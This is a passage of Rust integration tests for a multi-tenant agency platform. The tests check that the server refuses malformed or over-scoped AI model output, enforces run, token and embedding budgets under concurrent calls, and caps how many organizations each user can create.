    // Fields the schema does not have (another org, a status, an assignee) are refused,
    // not ignored.
    m.answer(
        "generate_tasks",
        json!({"tasks": [{"title": "t", "description": "", "owner": "agency", "priority": "low", "effort": "s", "tags": [],
                          "org_id": other_org, "status": "done", "assigned_to": w.outsider}]}),
    );
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id}),
    )
    .await;
    assert_refused(s, &v, "extra task fields");
    m.answer(
        "crm_intelligence",
        json!({"health_score": 1, "summary": "s", "next_best_action": "a", "risks": [], "sentiment_trend": "stable", "client_id": Uuid::new_v4()}),
    );
    let (s, _, v) = invoke(
        &app,
        "crm-intelligence",
        Some(&tok),
        json!({"client_id": w.client}),
    )
    .await;
    assert_refused(s, &v, "extra client field");
    // Values outside an enum (a priority that no check constraint knows) are refused too.
    m.answer(
        "generate_tasks",
        json!({"tasks": [{"title": "t", "description": "", "owner": "root", "priority": "low", "effort": "s", "tags": []}]}),
    );
    let (s, _, v) = invoke(
        &app,
        "generate-tasks",
        Some(&tok),
        json!({"phase_id": phase_id, "n": 2}),
    )
    .await;
    assert_refused(s, &v, "owner outside the enum");
    assert_eq!(count(&db, "select 1 from tasks").await, 0);
    assert_eq!(health(&db, &w).await, 50);
    assert_eq!(count(&db, "select 1 from activities").await, 0);
}

#[tokio::test]
async fn functions_attack_out_of_range_numbers_in_model_output_are_refused() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &openai_flags(&mock)).await;
    let tok = app.user_token(w.user);
    let review = |score: &str| {
        format!(
            r#"{{"health_score": {score}, "summary": "s", "next_best_action": "a", "risks": [], "sentiment_trend": "stable"}}"#
        )
    };
    for (i, score) in ["101", "-1", "81.5", "\"81\"", "1e400", "null"]
        .into_iter()
        .enumerate()
    {
        m.answer_raw("crm_intelligence", review(score));
        let (s, _, v) = invoke(
            &app,
            "crm-intelligence",
            Some(&tok),
            json!({"client_id": w.client, "n": i}),
        )
        .await;
        assert_refused(s, &v, score);
    }
    assert_eq!(health(&db, &w).await, 50);
    assert_eq!(count(&db, "select 1 from activities").await, 0);
    // 81.0 is the integer 81 (it used to be stored as the default 50).
    m.answer_raw("crm_intelligence", review("81.0"));
    let (s, _, v) = invoke(
        &app,
        "crm-intelligence",
        Some(&tok),
        json!({"client_id": w.client, "n": "float"}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(health(&db, &w).await, 81);

    db.execute(
        "select create_context_snapshot($1, 'ctx', '{}')",
        &[&w.project],
    )
    .await
    .unwrap();
    for (value, payback) in [("1e15", "5"), ("-1", "5"), ("100", "-3"), ("100", "100000")] {
        m.answer_raw(
            "generate_roadmap",
            format!(
                r#"{{"total_duration": "1 month", "roi_projection": {{"summary": "", "estimated_annual_value_usd": {value}, "payback_months": {payback}}},
                    "phases": [{{"title": "P", "description": "", "outcomes": []}}]}}"#
            ),
        );
        let (s, _, v) = invoke(
            &app,
            "generate-roadmap",
            Some(&tok),
            json!({"project_id": w.project}),
        )
        .await;
        assert_refused(s, &v, &format!("{value} / {payback}"));
    }
    assert_eq!(count(&db, "select 1 from roadmaps").await, 0);
}

#[tokio::test]
async fn functions_attack_non_finite_embedding_vectors_are_refused_not_500() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &paid_embedding_flags(&mock, &[])).await;
    let tok = app.user_token(w.user);
    // 1e39 does not fit an f32: it became an infinity, which pgvector refuses (a 500 in
    // search) and JSON cannot carry (a null in embed).
    *m.embed_value.lock().unwrap() = Some(1e39);
    let (s, _, v) = invoke(&app, "embed", Some(&tok), json!({"text": "hello"})).await;
    assert_eq!(
        (s.as_u16(), v["code"].as_str()),
        (502, Some("provider_error")),
        "{v}"
    );
    let (s, _, v) = invoke(&app, "search", Some(&tok), json!({"query": "hello"})).await;
    assert_eq!(
        (s.as_u16(), v["code"].as_str()),
        (502, Some("provider_error")),
        "{v}"
    );
    assert_eq!(count(&db, "select 1 from ai_cache").await, 0);
    // Failed calls are not charged.
    assert_eq!(usage_row(&db, w.org, "runs").await, (0, 0, 0));
    assert_eq!(usage_row(&db, w.org, "embed_chars").await.0, 0);
}

// ---------------------------------------------------------------------------------------
// 2. Budgets are reserved, not checked
// ---------------------------------------------------------------------------------------

#[tokio::test]
async fn functions_attack_concurrent_calls_cannot_overspend_the_hourly_run_budget() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &flags(&mock, &["--ai-rate-limit-per-hour", "3"])).await;
    let tok = app.user_token(w.user);
    // A slow provider: every call is in flight before the first one finishes.
    m.delay_ms.store(500, Ordering::SeqCst);
    let calls = (0..12).map(|i| {
        invoke(
            &app,
            "analyze-business",
            Some(&tok),
            json!({"session_id": w.session, "data": {"attempt": i}}),
        )
    });
    let results = join_all(calls).await;
    let ok = results.iter().filter(|r| r.0 == 200).count();
    for (s, h, v) in &results {
        if *s != 200 {
            assert_eq!(
                (s.as_u16(), v["code"].as_str()),
                (429, Some("rate_limited")),
                "{v}"
            );
            let retry: u64 = h["retry-after"].to_str().unwrap().parse().unwrap();
            assert!((1..=3600).contains(&retry), "{retry}");
        }
    }
    assert_eq!(ok, 3, "a budget of 3 runs admits 3 of 12 concurrent calls");
    assert_eq!(m.calls(), 3, "refused calls never reach the provider");
    assert_eq!(usage_row(&db, w.org, "runs").await.0, 3);
    assert_eq!(
        usage_row(&db, w.org, "runs").await.1,
        0,
        "nothing left reserved"
    );
    // And sequentially afterwards: still refused.
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"attempt": "late"}}),
    )
    .await;
    assert_eq!(s, 429, "{v}");
}

#[tokio::test]
async fn functions_attack_concurrent_embed_calls_cannot_overspend_the_embedding_budget() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(
        &t,
        &paid_embedding_flags(
            &mock,
            &[
                "--ai-embed-budget-chars-per-day",
                "1000",
                "--ai-rate-limit-per-hour",
                "1000",
            ],
        ),
    )
    .await;
    let tok = app.user_token(w.user);
    m.delay_ms.store(400, Ordering::SeqCst);
    // Ten texts of 300 characters against a budget of 1,000: three fit.
    let calls = (0..10).map(|i| {
        let text = format!("{i:03}{}", "a".repeat(297));
        invoke(&app, "embed", Some(&tok), json!({"text": text}))
    });
    let results = join_all(calls).await;
    let ok = results.iter().filter(|r| r.0 == 200).count();
    for (s, h, v) in &results {
        if *s != 200 {
            assert_eq!(
                (s.as_u16(), v["code"].as_str(), v["setting"].as_str()),
                (
                    429,
                    Some("ai_budget_exceeded"),
                    Some("AI_EMBED_BUDGET_CHARS_PER_DAY")
                ),
                "{v}"
            );
            let retry: u64 = h["retry-after"].to_str().unwrap().parse().unwrap();
            assert!((1..=86_400).contains(&retry), "{retry}");
        }
    }
    assert_eq!(ok, 3, "a budget of 1,000 characters admits 3 texts of 300");
    assert_eq!(m.embedded_chars(), 900);
    let (used, reserved, tokens) = usage_row(&db, w.org, "embed_chars").await;
    assert_eq!((used, reserved), (900, 0));
    assert!(tokens > 0, "the provider's token count is recorded");
}

#[tokio::test]
async fn functions_attack_chat_token_budget_is_reserved_then_settled_with_the_real_cost() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(
        &t,
        &flags(&mock, &["--ai-chat-token-budget-per-day", "10000"]),
    )
    .await;
    let tok = app.user_token(w.user);
    // Each answer really costs 6,000 tokens (more than the estimate reserved for it).
    *m.usage.lock().unwrap() = (3000, 3000);
    for i in 0..2 {
        let (s, _, v) = invoke(
            &app,
            "analyze-business",
            Some(&tok),
            json!({"session_id": w.session, "data": {"n": i}}),
        )
        .await;
        assert_eq!(s, 200, "{v}");
    }
    // Settled with the provider's count, nothing left reserved.
    assert_eq!(
        usage_row(&db, w.org, "chat_tokens").await,
        (12000, 0, 12000)
    );
    let (s, h, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"n": 3}}),
    )
    .await;
    assert_eq!(
        (s.as_u16(), v["code"].as_str(), v["setting"].as_str()),
        (
            429,
            Some("ai_budget_exceeded"),
            Some("AI_CHAT_TOKEN_BUDGET_PER_DAY")
        ),
        "{v}"
    );
    assert!(h.contains_key("retry-after"));
    assert_eq!(m.calls(), 2);
}

#[tokio::test]
async fn functions_attack_failed_provider_calls_release_their_reservation() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(
        &t,
        &flags(
            &mock,
            &["--ai-rate-limit-per-hour", "2", "--ai-max-retries", "0"],
        ),
    )
    .await;
    let tok = app.user_token(w.user);
    m.fail.store(true, Ordering::SeqCst);
    for i in 0..4 {
        let (s, _, v) = invoke(
            &app,
            "analyze-business",
            Some(&tok),
            json!({"session_id": w.session, "data": {"n": i}}),
        )
        .await;
        assert_eq!(
            (s.as_u16(), v["code"].as_str()),
            (502, Some("provider_error")),
            "{v}"
        );
    }
    assert_eq!(usage_row(&db, w.org, "runs").await, (0, 0, 0));
    // The budget is whole again: two calls succeed, the third is refused.
    m.fail.store(false, Ordering::SeqCst);
    let mut statuses = Vec::new();
    for i in 10..13 {
        let (s, _, _) = invoke(
            &app,
            "analyze-business",
            Some(&tok),
            json!({"session_id": w.session, "data": {"n": i}}),
        )
        .await;
        statuses.push(s.as_u16());
    }
    assert_eq!(statuses, [200, 200, 429]);
}

#[tokio::test]
async fn functions_attack_hanging_up_mid_call_does_not_refund_the_budget() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let (mock, m) = spawn_script().await;
    let app = app_with(&t, &flags(&mock, &["--ai-rate-limit-per-hour", "2"])).await;
    let tok = app.user_token(w.user);
    // The client hangs up while the provider is still working (and may bill the call).
    m.delay_ms.store(1500, Ordering::SeqCst);
    let impatient = reqwest::Client::builder()
        .timeout(Duration::from_millis(300))
        .build()
        .unwrap();
    for i in 0..2 {
        let r = impatient
            .post(app.url("/functions/v1/analyze-business"))
            .header("apikey", &app.anon_key)
            .bearer_auth(&tok)
            .json(&json!({"session_id": w.session, "data": {"hang_up": i}}))
            .send()
            .await;
        assert!(r.is_err(), "the client gave up");
    }
    // Both runs count, whether the server finished the calls or abandoned them.
    let (su, org) = (&db, w.org);
    agencyflow_testkit::wait::until(
        Duration::from_secs(30),
        "both abandoned runs to be counted",
        || async move { usage_row(su, org, "runs").await.0 == 2 },
    )
    .await;
    assert_eq!(m.calls(), 2);
    m.delay_ms.store(0, Ordering::SeqCst);
    let (s, _, v) = invoke(
        &app,
        "analyze-business",
        Some(&tok),
        json!({"session_id": w.session, "data": {"hang_up": "no"}}),
    )
    .await;
    assert_eq!(
        (s.as_u16(), v["code"].as_str()),
        (429, Some("rate_limited")),
        "{v}"
    );
}

// ---------------------------------------------------------------------------------------
// 3. Organizations per user
// ---------------------------------------------------------------------------------------

async fn create_org(app: &TestApp, bearer: &str, body: Value) -> (u16, Value) {
    let resp = app
        .http
        .post(app.url("/rest/v1/organizations"))
        .header("apikey", &app.anon_key)
        .header("prefer", "return=representation")
        .bearer_auth(bearer)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or_else(|_| json!({"raw": text})),
    )
}

async fn orgs_created_by(db: &Client, user: Uuid) -> i64 {
    db.query_one(
        "select count(*) from organizations where created_by = $1",
        &[&user],
    )
    .await
    .unwrap()
    .get(0)
}

#[tokio::test]
async fn functions_attack_user_cannot_create_unlimited_organizations() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let app = t.spawn_app().await;
    let tok = app.user_token(w.user);
    // The personal workspace from sign-up is the first of the default 10.
    assert_eq!(orgs_created_by(&db, w.user).await, 1);
    for i in 0..9 {
        let (s, v) = create_org(
            &app,
            &tok,
            json!({"name": format!("Agency {i}"), "slug": format!("agency-{i}")}),
        )
        .await;
        assert_eq!(s, 201, "{v}");
    }
    let (s, v) = create_org(&app, &tok, json!({"name": "One more", "slug": "one-more"})).await;
    assert_eq!(s, 403, "{v}");
    assert_eq!(v["code"], "PT403", "{v}");
    assert!(
        v["message"]
            .as_str()
            .unwrap()
            .contains("organization limit reached"),
        "{v}"
    );
    assert!(
        v["hint"]
            .as_str()
            .unwrap()
            .contains("organizations_per_user"),
        "{v}"
    );
    // Several in one request are refused together.
    let (s, v) = create_org(
        &app,
        &tok,
        json!([{"name": "A", "slug": "bulk-a"}, {"name": "B", "slug": "bulk-b"}]),
    )
    .await;
    assert_eq!(s, 403, "{v}");
    assert_eq!(orgs_created_by(&db, w.user).await, 10);
    // The service role is not capped (here creating one on the user's behalf).
    let (s, v) = create_org(
        &app,
        &app.service_role_key.clone(),
        json!({"name": "By the operator", "slug": "by-operator", "created_by": w.user}),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    assert_eq!(orgs_created_by(&db, w.user).await, 11);
    // Another user is not affected.
    let (s, v) = create_org(
        &app,
        &app.user_token(w.outsider),
        json!({"name": "Other", "slug": "other-agency"}),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    // Deleting an organization frees its slot (the cap counts those that exist).
    db.execute(
        "delete from organizations where slug in ('agency-0', 'agency-1', 'by-operator')",
        &[],
    )
    .await
    .unwrap();
    let (s, v) = create_org(&app, &tok, json!({"name": "Again", "slug": "again"})).await;
    assert_eq!(s, 201, "{v}");
}

#[tokio::test]
async fn functions_attack_concurrent_org_creation_cannot_pass_the_cap() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    // The operator's setting.
    db.execute(
        "update private.limits set value = 4 where name = 'organizations_per_user'",
        &[],
    )
    .await
    .unwrap();
    let app = t.spawn_app().await;
    let tok = app.user_token(w.user);
    let results = join_all((0..12).map(|i| {
        create_org(
            &app,
            &tok,
            json!({"name": format!("Race {i}"), "slug": format!("race-{i}")}),
        )
    }))
    .await;
    let created = results.iter().filter(|r| r.0 == 201).count();
    for (s, v) in &results {
        assert!(*s == 201 || *s == 403, "{s}: {v}");
    }
    assert_eq!(created, 3, "personal workspace + 3 = the cap of 4");
    assert_eq!(orgs_created_by(&db, w.user).await, 4);
    // No cap (NULL): creation works again.
    db.execute(
        "update private.limits set value = null where name = 'organizations_per_user'",
        &[],
    )
    .await
    .unwrap();
    let (s, v) = create_org(&app, &tok, json!({"name": "Free", "slug": "free"})).await;
    assert_eq!(s, 201, "{v}");
}

#[tokio::test]
async fn functions_attack_rewriting_created_by_does_not_free_an_organization_slot() {
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    db.execute(
        "update private.limits set value = 2 where name = 'organizations_per_user'",
        &[],
    )
    .await
    .unwrap();
    let app = t.spawn_app().await;
    let tok = app.user_token(w.user);
    let (s, v) = create_org(&app, &tok, json!({"name": "Mine", "slug": "mine"})).await;
    assert_eq!(s, 201, "{v}");
    let (s, v) = create_org(&app, &tok, json!({"name": "Too many", "slug": "too-many"})).await;
    assert_eq!(s, 403, "{v}");
    // The owner "gives" their organizations to someone else in created_by...
    let resp = app
        .http
        .patch(app.url("/rest/v1/organizations?created_by=not.is.null"))
        .header("apikey", &app.anon_key)
        .bearer_auth(&tok)
        .json(&json!({"created_by": w.outsider}))
        .send()
        .await
        .unwrap();
    assert!(resp.status().as_u16() < 500, "{}", resp.status());
    // ... which changes nothing: the slot stays taken.
    assert_eq!(orgs_created_by(&db, w.user).await, 2);
    let (s, v) = create_org(&app, &tok, json!({"name": "Sneaky", "slug": "sneaky"})).await;
    assert_eq!(s, 403, "{v}");
}

// ---------------------------------------------------------------------------------------
// 4. Embeddings are metered and capped per organization
// ---------------------------------------------------------------------------------------

/// A document of `org` (in a project of its own, which documents need).
async fn insert_doc(db: &Client, org: Uuid, name: &str, text: &str) -> Uuid {
    db.query_one(
        "with p as (
           insert into projects (org_id, name) values ($1, 'Docs ' || $2) returning id
         )
         insert into documents (org_id, project_id, name, content_text)
         select $1, p.id, $2, $3 from p returning id",
        &[&org, &name, &text],
    )
    .await
    .unwrap()
    .get(0)
}

/// Characters the worker embeds for these documents (its source expression).
async fn doc_chars(db: &Client, org: Uuid) -> i64 {
    db.query_one(
        "select coalesce(sum(char_length(concat_ws(E'\\n', name, summary, content_text))), 0)::bigint
         from documents where org_id = $1",
        &[&org],
    )
    .await
    .unwrap()
    .get(0)
}

#[tokio::test]
async fn functions_attack_embedding_worker_stops_at_the_per_org_cap_of_a_paid_provider() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    let other_org: Uuid = db
        .query_one(
            "select org_id from team_members where user_id = $1",
            &[&w.outsider],
        )
        .await
        .unwrap()
        .get(0);
    // Org A: ten documents of exactly 200 characters each ("dNN" + "\n" + 196).
    for i in 0..10 {
        insert_doc(&db, w.org, &format!("d{i:02}"), &"a".repeat(196)).await;
    }
    assert_eq!(doc_chars(&db, w.org).await, 2000);
    // Org B: two small documents, and one larger than a whole day's budget.
    insert_doc(&db, other_org, "b1", "small text one").await;
    insert_doc(&db, other_org, "b2", "small text two").await;
    let huge = insert_doc(&db, other_org, "huge", &"h".repeat(800)).await;
    let b_small: i64 = db
        .query_one(
            "select sum(char_length(concat_ws(E'\\n', name, summary, content_text)))::bigint
             from documents where org_id = $1 and id <> $2",
            &[&other_org, &huge],
        )
        .await
        .unwrap()
        .get(0);

    let (mock, m) = spawn_script().await;
    let cfg = WorkerConfig {
        batch_size: 3,
        poll: Duration::from_millis(20),
        lease_secs: 60,
        max_attempts: 3,
        retry_base_secs: 0.05,
        embed_budget_chars_per_day: 700,
    };
    let report = backfill_with(&t.db(), paid_embedder(&mock), &cfg, |_, _| {})
        .await
        .unwrap();

    // Org A: three documents (600 characters) fit its 700; the rest wait for tomorrow.
    assert_eq!(
        count(
            &db,
            &format!(
                "select 1 from documents where org_id = '{}' and embedding is not null",
                w.org
            )
        )
        .await,
        3
    );
    let (used, reserved, tokens) = usage_row(&db, w.org, "embed_chars").await;
    assert_eq!((used, reserved), (600, 0));
    assert!(tokens > 0);
    let deferred = count(
        &db,
        &format!(
            "select 1 from private.embedding_jobs where org_id = '{}' and status = 'pending'
               and attempts = 0 and run_after > now() + interval '1 second'
               and last_error like '%AI_EMBED_BUDGET_CHARS_PER_DAY%'",
            w.org
        ),
    )
    .await;
    assert_eq!(deferred, 7);
    assert_eq!(report.remaining, 7);
    // The provider saw no more than the budgets allowed: 600 of A's, B's small texts.
    assert_eq!(m.embedded_chars() as i64, 600 + b_small);
    // Org B is not held back by A; its oversized text fails at once (never sent).
    assert_eq!(
        count(
            &db,
            &format!(
                "select 1 from documents where org_id = '{other_org}' and embedding is not null"
            )
        )
        .await,
        2
    );
    assert_eq!(usage_row(&db, other_org, "embed_chars").await.0, b_small);
    let r = db
        .query_one(
            "select status, last_error from private.embedding_jobs where row_id = $1",
            &[&huge],
        )
        .await
        .unwrap();
    assert_eq!(r.get::<_, String>(0), "failed");
    assert!(r
        .get::<_, String>(1)
        .contains("longer than the daily embedding budget"));
    // Running the worker again today changes nothing for A.
    let before = m.embedded_chars();
    backfill_with(&t.db(), paid_embedder(&mock), &cfg, |_, _| {})
        .await
        .unwrap();
    assert_eq!(m.embedded_chars(), before);
    assert_eq!(usage_row(&db, w.org, "embed_chars").await.0, 600);
}

#[tokio::test]
async fn functions_attack_free_embedding_providers_are_metered_but_never_capped() {
    avoid_period_boundary().await;
    let t = TestDb::new().await;
    let db = t.superuser().await;
    let w = world(&db).await;
    for i in 0..5 {
        insert_doc(&db, w.org, &format!("doc{i}"), &"word ".repeat(40)).await;
    }
    let total = doc_chars(&db, w.org).await;
    let cfg = WorkerConfig {
        batch_size: 2,
        poll: Duration::from_millis(20),
        lease_secs: 60,
        max_attempts: 3,
        retry_base_secs: 0.05,
        // Far below the texts: the offline provider ignores it.
        embed_budget_chars_per_day: 10,
    };
    let hash: DynProvider = Arc::new(provider::HashEmbedder::new("hash-v1".into()));
    let r = backfill_with(&t.db(), hash, &cfg, |_, _| {}).await.unwrap();
    assert_eq!((r.embedded, r.remaining, r.failed), (5, 0, 0));
    assert_eq!(usage_row(&db, w.org, "embed_chars").await.0, total);
    // The embed function with the free provider is metered as well.
    let app = t
        .spawn_app_with(&[
            "--ai-chat-provider",
            "none",
            "--ai-embed-budget-chars-per-day",
            "1",
        ])
        .await;
    let (s, _, v) = invoke(
        &app,
        "embed",
        Some(&app.user_token(w.user)),
        json!({"text": "twelve chars"}),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(usage_row(&db, w.org, "embed_chars").await.0, total + 12);
}
